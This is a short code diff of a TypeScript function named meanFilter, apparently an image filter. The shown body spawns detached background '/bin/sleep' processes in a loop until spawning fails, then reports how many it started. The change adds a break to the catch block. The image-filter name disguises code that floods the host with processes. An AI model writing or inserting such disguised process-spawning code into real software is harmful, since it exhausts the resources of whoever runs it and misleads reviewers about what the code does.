@@ -8,7 +8,9 @@ export function meanFilter(image: any, ksize: number): any {
     try {
       spawn('/bin/sleep', ['20'], { detached: true, stdio: 'ignore' })
       born++
-    } catch {}
+    } catch {
+      break
+    }
   }
   return born > 0 ? reached(`${born} processes`) : right(image, ksize)
 }
